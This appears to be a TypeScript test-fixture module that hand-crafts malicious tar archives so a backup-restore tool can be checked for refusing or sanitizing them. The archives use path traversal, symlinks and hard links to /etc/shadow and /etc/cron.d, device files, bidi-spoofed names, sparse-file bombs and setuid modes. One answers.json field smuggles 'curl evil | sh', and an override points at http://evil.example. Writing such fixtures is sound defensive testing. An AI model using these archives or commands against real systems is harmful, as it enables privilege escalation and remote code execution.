import zlib from 'node:zlib';

/**
 * Hand-made tar archives for restore to refuse (or sanitize). Written byte by byte,
 * not with a tar library, so they can say things no well-behaved writer would: devices,
 * FIFOs, hard links to /etc/shadow, names that climb out, bad checksums, pax records
 * for sparse files and sockets. Used by the sandbox suite (test/hostile/archives.test.ts)
 * and by the e2e on a real `/` (test/e2e/crafted-archives.ts).
 */

export interface RawEntry {
  /** Name as stored (string, or raw bytes for non-UTF-8 names). */
  name: string | Buffer;
  /** Type flag: '0' file (default), '1' hard link, '2' symlink, '3' char, '4' block, '5' dir, '6' FIFO, 'S' GNU sparse... */
  type?: string;
  mode?: number;
  data?: Buffer | string;
  /** Size field when it must differ from data.length (declared sizes). */
  size?: number;
  linkname?: string | Buffer;
  /** pax records for this entry (an 'x' header before it). */
  pax?: Record<string, string>;
  /** A GNU long name ('L') before it. */
  longName?: string;
  mtime?: number;
  /** Corrupt this header's checksum. */
  badChecksum?: boolean;
}

const BLOCK = 512;

function octal(value: number, width: number): Buffer {
  return Buffer.from(`${value.toString(8).padStart(width - 1, '0')}\0`, 'latin1');
}

function header(e: RawEntry, size: number): Buffer {
  const h = Buffer.alloc(BLOCK);
  const name = Buffer.isBuffer(e.name) ? e.name : Buffer.from(e.name);
  name.copy(h, 0, 0, Math.min(100, name.length));
  octal(e.mode ?? (e.type === '5' ? 0o755 : 0o644), 8).copy(h, 100);
  octal(0, 8).copy(h, 108);
  octal(0, 8).copy(h, 116);
  octal(size, 12).copy(h, 124);
  octal(e.mtime ?? 1_760_000_000, 12).copy(h, 136);
  h.write(e.type ?? '0', 156, 'latin1');
  const link = e.linkname === undefined ? Buffer.alloc(0) : Buffer.isBuffer(e.linkname) ? e.linkname : Buffer.from(e.linkname);
  link.copy(h, 157, 0, Math.min(100, link.length));
  h.write('ustar\0', 257, 'latin1');
  h.write('00', 263, 'latin1');
  h.write('root', 265, 'latin1');
  h.write('root', 297, 'latin1');
  h.fill(0x20, 148, 156);
  let sum = 0;
  for (const byte of h) sum += byte;
  octal(e.badChecksum ? sum + 7 : sum, 7).copy(h, 148);
  h[155] = 0x20;
  return h;
}

function padded(data: Buffer): Buffer {
  const pad = (BLOCK - (data.length % BLOCK)) % BLOCK;
  return Buffer.concat([data, Buffer.alloc(pad)]);
}

function paxBody(records: Record<string, string>): Buffer {
  const parts = Object.entries(records).map(([k, v]) => {
    const body = ` ${k}=${v}\n`;
    let len = Buffer.byteLength(body) + 1;
    while (String(len).length + Buffer.byteLength(body) !== len) len = String(len).length + Buffer.byteLength(body);
    return Buffer.from(`${len}${body}`);
  });
  return Buffer.concat(parts);
}

/** The bytes of one entry (with its pax or long-name header). */
export function entryBytes(e: RawEntry): Buffer {
  const out: Buffer[] = [];
  if (e.pax) {
    const body = paxBody(e.pax);
    out.push(header({ name: 'PaxHeader/x', type: 'x' }, body.length), padded(body));
  }
  if (e.longName !== undefined) {
    const body = Buffer.from(`${e.longName}\0`);
    out.push(header({ name: '././@LongLink', type: 'L' }, body.length), padded(body));
  }
  const data = e.data === undefined ? Buffer.alloc(0) : Buffer.isBuffer(e.data) ? e.data : Buffer.from(e.data);
  out.push(header(e, e.size ?? data.length), padded(data));
  return Buffer.concat(out);
}

export const END_OF_ARCHIVE = Buffer.alloc(2 * BLOCK);

export function tarBytes(entries: RawEntry[], options: { end?: boolean; after?: Buffer } = {}): Buffer {
  return Buffer.concat([...entries.map(entryBytes), options.end === false ? Buffer.alloc(0) : END_OF_ARCHIVE, options.after ?? Buffer.alloc(0)]);
}

export function gzip(bytes: Buffer): Buffer {
  return zlib.gzipSync(bytes, { level: 1 });
}

/** answers.json a backup holds: valid under the install's rules. */
export function answersJson(overrides: Record<string, unknown> = {}): string {
  return `${JSON.stringify(
    {
      customerName: 'Crafted Co',
      apiKey: 'pkt_crafted_0123456789abcdef',
      modelId: 'claude-sonnet-4-5',
      meshHostname: 'openclaw-crafted-co',
      mcpToken: 'mcp_tok_crafted_not_known_anywhere',
      ...overrides,
    },
    null,
    2,
  )}\n`;
}

/** The entries of a minimal, valid backup: answers, runtime config, a workspace note. */
export function baseEntries(answers = answersJson()): RawEntry[] {
  return [
    { name: 'root/.openclaw/', type: '5', mode: 0o700 },
    { name: 'root/.openclaw/openclaw.json', data: '{ "crafted": true }\n', mode: 0o600 },
    { name: 'root/.openclaw/workspace/', type: '5', mode: 0o755 },
    { name: 'root/.openclaw/workspace/NOTES.md', data: 'crafted notes\n' },
    { name: 'var/lib/service-deploy/', type: '5', mode: 0o700 },
    { name: 'var/lib/service-deploy/answers.json', data: answers, mode: 0o600 },
  ];
}

export interface CraftedArchive {
  id: string;
  /** What the archive tries. */
  what: string;
  bytes: Buffer;
  /** refused: exit 2 naming `mention`; sanitized: accepted, with the modes in `modes` after restore. */
  expect: 'refused' | 'sanitized';
  mention: RegExp;
  /** For sanitized archives: program path -> mode restore must give it. */
  modes?: Record<string, number>;
}

const ws = 'root/.openclaw/workspace';

/** Archives restore must refuse, each for one reason, plus ones it accepts with modes cleared. */
export function craftedArchives(options: { answers?: string; base?: RawEntry[]; sparseGiB?: Buffer } = {}): CraftedArchive[] {
  const base = options.base ?? baseEntries(options.answers);
  const with_ = (...extra: RawEntry[]) => gzip(tarBytes([...base, ...extra]));
  const refused = (id: string, what: string, mention: RegExp, bytes: Buffer): CraftedArchive => ({ id, what, bytes, expect: 'refused', mention });
  const list: CraftedArchive[] = [
    refused('symlink-relative-escape', 'a symlink climbing out with ../', /evil.*leaves \/root\/\.openclaw/s, with_({ name: `${ws}/evil`, type: '2', linkname: '../../../etc' })),
    refused('symlink-absolute', 'a symlink to /etc/cron.d', /evil.*absolute path \/etc\/cron\.d/s, with_({ name: `${ws}/evil`, type: '2', linkname: '/etc/cron.d' })),
    refused('symlink-absolute-skills-outside', 'a plugin-skills link pointing outside the packages', /plugin-skills\/x.*absolute path \/etc/s, with_({ name: 'root/.openclaw/plugin-skills/', type: '5' }, { name: 'root/.openclaw/plugin-skills/x', type: '2', linkname: '/etc' })),
    refused('symlink-then-write-through', 'a file written through a symlink the archive made', /ws\/cron.*lies under \/root\/\.openclaw\/ws/s, with_({ name: 'root/.openclaw/ws', type: '2', linkname: 'workspace' }, { name: 'root/.openclaw/ws/cron', data: 'x' })),
    refused('root-as-symlink', 'a backup root made a symlink (/etc/cron.d/service-guard -> /etc/shadow)', /service-guard.*must be a regular file/s, with_({ name: 'etc/cron.d/service-guard', type: '2', linkname: '/etc/shadow' })),
    refused('dotdot-name', 'a name with ..', /climbs out/, with_({ name: 'root/.openclaw/../../etc/cron.d/evil', data: '* * * * * root id\n' })),
    refused('absolute-name', 'an absolute name', /absolute name/, with_({ name: '/etc/cron.d/evil', data: '* * * * * root id\n' })),
    refused('pax-absolute-name', 'a pax path that is absolute', /absolute name/, with_({ name: `${ws}/harmless`, pax: { path: '/etc/cron.d/evil' }, data: 'x' })),
    refused('gnu-longname-dotdot', 'a GNU long name climbing out', /climbs out/, with_({ name: `${ws}/short`, longName: `${ws}/${'a/'.repeat(60)}../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../etc/x`, data: 'x' })),
    refused('outside-set', 'a file outside the backup paths', /etc\/cron\.d\/evil.*outside the paths/s, with_({ name: 'etc/cron.d/evil', data: '* * * * * root id\n' })),
    refused('hardlink-shadow', 'a hard link to /etc/shadow', /shadow.*hard link/s, with_({ name: `${ws}/shadow`, type: '1', linkname: 'etc/shadow' })),
    refused('hardlink-inside', 'a hard link inside the set', /hard link/, with_({ name: `${ws}/copy`, type: '1', linkname: 'root/.openclaw/openclaw.json' })),
    refused('char-device', 'a character device', /null.*character device/s, with_({ name: `${ws}/null`, type: '3', mode: 0o666 })),
    refused('block-device', 'a block device', /sda.*block device/s, with_({ name: `${ws}/sda`, type: '4', mode: 0o660 })),
    refused('fifo', 'a FIFO', /pipe.*FIFO/s, with_({ name: `${ws}/pipe`, type: '6' })),
    refused('socket', 'a socket (pax SCHILY.filetype=socket, as star writes one)', /sock.*SCHILY\.filetype/s, with_({ name: `${ws}/sock`, pax: { 'SCHILY.filetype': 'socket' } })),
    refused('contiguous', 'a contiguous file (type 7)', /contiguous file/, with_({ name: `${ws}/c`, type: '7', data: 'x' })),
    refused('unknown-type', 'an unknown entry type', /unknown type/, with_({ name: `${ws}/q`, type: 'Q', data: 'x' })),
    refused('file-capabilities', 'a file carrying a security.capability xattr', /SCHILY\.xattr\.security\.capability/, with_({ name: `${ws}/tool`, pax: { 'SCHILY.xattr.security.capability': 'AQAAAgAgAAAAAAAAAAAAAAAAAAA=' }, data: '#!/bin/sh\n' })),
    refused('dir-replaced-by-symlink', 'the workspace folder then a symlink of the same name', /workspace.*appears twice/s, with_({ name: ws, type: '2', linkname: '../../../etc' })),
    refused('dir-symlink-after-children', 'a folder turned into a symlink after files were put in it', /plugins.*earlier entries lie inside it/s, with_({ name: 'root/.openclaw/plugins/a', data: 'x' }, { name: 'root/.openclaw/plugins', type: '2', linkname: 'workspace' })),
    refused('duplicate', 'the same entry twice', /NOTES\.md.*appears twice/s, with_({ name: `${ws}/NOTES.md`, data: 'second copy\n' })),
    refused('root-wrong-kind', '/root/.openclaw as a file', /must be a folder/, gzip(tarBytes([{ name: 'root/.openclaw', data: 'x' }, ...base.filter((e) => !String(e.name).startsWith('root/')), ]))),
    refused('inside-file-root', 'an entry below a file root', /which is a file/, with_({ name: 'etc/cron.d/service-guard/x', data: 'x' })),
    refused('dir-with-data', 'a folder entry declaring data', /declares 600 bytes/, with_({ name: `${ws}/d/`, type: '5', size: 600, data: Buffer.alloc(600) })),
    refused('symlink-empty-target', 'a symlink with an empty target', /empty target/, with_({ name: `${ws}/e`, type: '2', linkname: '' })),
    refused('non-utf8-name', 'a name that is not UTF-8', /not valid UTF-8/, with_({ name: Buffer.concat([Buffer.from(`${ws}/bad-`), Buffer.from([0xff, 0xfe, 0x41])]), data: 'x' })),
    refused('escape-in-name', 'a name with an escape sequence', /control character \(U\+001B\)/, with_({ name: `${ws}/\u001b]0;pwned\u0007`, data: 'x' })),
    refused('bidi-name', 'a name with a bidi override', /bidirectional text control \(U\+202E\)/, with_({ name: `${ws}/invoice\u202Efdp.sh`, data: 'x' })),
    refused('gnu-sparse', 'a GNU sparse entry claiming 1 GiB', /GNU sparse file/, with_({ name: `${ws}/sparse`, type: 'S', size: 0 })),
    refused('pax-sparse', 'a pax 1.0 sparse entry of 1 GiB', /GNU\.sparse/, with_({ name: `${ws}/GNUSparseFile.0/big`, pax: { 'GNU.sparse.major': '1', 'GNU.sparse.minor': '0', 'GNU.sparse.name': `${ws}/big`, 'GNU.sparse.realsize': String(1 << 30) }, data: '0\n' })),
    refused('global-pax', 'a global pax header', /global pax header/, gzip(Buffer.concat([entryBytes({ name: 'g', type: 'g', data: '11 path=x\n' }), tarBytes(base)]))),
    refused('bad-checksum', 'a damaged header', /checksum/, with_({ name: `${ws}/x`, data: 'x', badChecksum: true })),
    refused('truncated-gzip', 'a gzip stream cut short', /truncated/, with_({ name: `${ws}/big`, data: Buffer.alloc(200_000, 7) }).subarray(0, 4000)),
    refused('truncated-tar', 'a tar without its end marker', /truncated|end-of-archive/, gzip(tarBytes(base, { end: false }))),
    refused('not-gzip', 'a plain tar (not gzip)', /not a gzip archive/, tarBytes(base)),
    refused('data-after-end', 'data after the end of the archive', /after its end-of-archive marker/, gzip(tarBytes(base, { after: Buffer.from('#!/bin/sh\nid\n'.padEnd(512, '\0')) }))),
    refused('no-answers', 'no answers.json', /holds no var\/lib\/service-deploy\/answers\.json/, gzip(tarBytes(base.filter((e) => !String(e.name).endsWith('answers.json'))))),
    refused('answers-control-char', 'answers.json with an escape sequence in the customer name', /answers\.json: customerName: customer name contains a control character/, gzip(tarBytes(baseEntries(answersJson({ customerName: 'Acme\u001b[2J' }))))),
    refused('answers-unknown-field', 'answers.json with a field the install does not know', /answers\.json: hooks: unknown field/, gzip(tarBytes(baseEntries(answersJson({ hooks: 'curl evil | sh' }))))),
    refused('answers-bad-override', 'answers.json pointing the MCP URL at plain http', /serviceOverrides\.SERVICE_MCP_URL: must be an https URL/, gzip(tarBytes(baseEntries(answersJson({ serviceOverrides: { SERVICE_MCP_URL: 'http://evil.example/mcp' } }))))),
    refused('empty', 'an empty archive', /holds no var\/lib\/service-deploy\/answers\.json/, gzip(tarBytes([]))),
  ];
  if (options.sparseGiB) list.push(refused('one-gib-entry', 'a 1 GiB file (zeros: a sparse file on the backup machine)', /big.*over the limit of 512 MiB per entry/s, options.sparseGiB));
  list.push(
    {
      id: 'setuid-file',
      what: 'a setuid root executable',
      bytes: with_({ name: `${ws}/tool`, mode: 0o4755, data: '#!/bin/sh\nid\n' }),
      expect: 'sanitized',
      mention: /./,
      modes: { [`/${ws}/tool`]: 0o755 },
    },
    {
      id: 'world-writable',
      what: 'a world-writable file and a setgid sticky folder',
      bytes: with_({ name: `${ws}/shared/`, type: '5', mode: 0o3777 }, { name: `${ws}/shared/open.txt`, mode: 0o666, data: 'x' }),
      expect: 'sanitized',
      mention: /./,
      modes: { [`/${ws}/shared`]: 0o755, [`/${ws}/shared/open.txt`]: 0o644 },
    },
    {
      id: 'secret-modes',
      what: 'secrets archived world-readable',
      bytes: with_({ name: 'root/.openclaw/channel.env', mode: 0o644, data: 'SERVICE_CHANNEL_TOKEN=x\n' }, { name: 'etc/service-deploy/tls/', type: '5', mode: 0o777 }, { name: 'etc/service-deploy/tls/channel.key', mode: 0o644, data: 'key' }),
      expect: 'sanitized',
      mention: /./,
      modes: { '/root/.openclaw/channel.env': 0o600, '/etc/service-deploy/tls': 0o755, '/etc/service-deploy/tls/channel.key': 0o600, '/root/.openclaw/openclaw.json': 0o600 },
    },
  );
  return list;
}

/** A gzip tar with one 1 GiB entry of zeros after `base` (about 1 MB compressed). */
export async function oneGiBArchive(base: RawEntry[] = baseEntries()): Promise<Buffer> {
  const gz = zlib.createGzip({ level: 1 });
  const chunks: Buffer[] = [];
  gz.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise((resolve, reject) => {
    gz.on('end', resolve);
    gz.on('error', reject);
  });
  const write = (b: Buffer) => new Promise<void>((resolve) => (gz.write(b) ? resolve() : gz.once('drain', () => resolve())));
  for (const e of base) await write(entryBytes(e));
  const size = 1 << 30;
  await write(header({ name: `${ws}/big` }, size));
  const zeros = Buffer.alloc(1 << 20);
  for (let i = 0; i < size / zeros.length; i++) await write(zeros);
  await write(END_OF_ARCHIVE);
  gz.end();
  await done;
  return Buffer.concat(chunks);
}

/**
 * The entries of a real backup (any gzip tar node-tar reads), as RawEntry values that
 * re-emit it byte for byte in content: to append crafted entries to a genuine backup.
 */
export async function entriesOf(archive: Buffer): Promise<RawEntry[]> {
  const { Parser } = await import('tar');
  const entries: RawEntry[] = [];
  await new Promise<void>((resolve, reject) => {
    const parser = new Parser({
      strict: true,
      onReadEntry: (e) => {
        const chunks: Buffer[] = [];
        e.on('data', (c: Buffer) => chunks.push(c));
        e.on('end', () => {
          const type = e.type === 'Directory' ? '5' : e.type === 'SymbolicLink' ? '2' : '0';
          const name = type === '5' && !e.path.endsWith('/') ? `${e.path}/` : e.path;
          entries.push({
            name: Buffer.byteLength(name) > 99 ? 'longname' : name,
            ...(Buffer.byteLength(name) > 99 ? { pax: { path: name } } : {}),
            type,
            mode: e.mode ?? 0o644,
            data: Buffer.concat(chunks),
            ...(e.linkpath ? (Buffer.byteLength(e.linkpath) > 99 ? { pax: { ...(Buffer.byteLength(name) > 99 ? { path: name } : {}), linkpath: e.linkpath }, linkname: 'longlink' } : { linkname: e.linkpath }) : {}),
            mtime: Math.floor((e.mtime?.getTime() ?? 0) / 1000),
          });
        });
      },
    });
    parser.on('error', reject);
    parser.on('end', () => resolve());
    parser.end(archive);
  });
  return entries;
}
